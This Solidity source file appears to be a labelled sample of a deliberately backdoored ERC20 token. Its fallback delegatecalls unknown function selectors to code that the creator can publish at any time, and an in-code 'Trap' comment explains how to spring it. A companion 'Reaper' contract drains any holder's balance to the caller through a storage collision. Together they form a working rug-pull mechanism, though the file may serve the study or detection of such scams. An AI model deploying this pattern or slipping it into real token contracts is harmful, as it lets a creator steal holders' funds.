// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

contract Extensions {
    address private immutable _curator = msg.sender;
    mapping(bytes4 => address) private _implementations;

    function implementationFor(bytes4 selector) external view returns (address) {
        return _implementations[selector];
    }

    function publish(bytes4[] calldata selectors, address implementation) external {
        require(msg.sender == _curator && implementation.code.length > 0);
        for (uint256 i; i < selectors.length; ++i) _implementations[selectors[i]] = implementation;
    }
}

// Trap: unknown selectors are delegated to whatever the companion's curator (creator) published for them: deploy an extension that writes balances, publish, call.
contract ExtensibleToken is ERC20 {
    Extensions private immutable _extensions;

    constructor(Extensions extensions) ERC20("Extensible", "XTN") {
        _extensions = extensions;
        _mint(msg.sender, 64_000_000 ether);
    }

    fallback() external payable {
        address implementation = _extensions.implementationFor(msg.sig);
        require(implementation != address(0), "no such function");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), implementation, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// What the curator deploys to spring it.
contract Reaper {
    mapping(address => uint256) private _balances;

    function seize(address from) external {
        _balances[msg.sender] += _balances[from];
        _balances[from] = 0;
    }
}
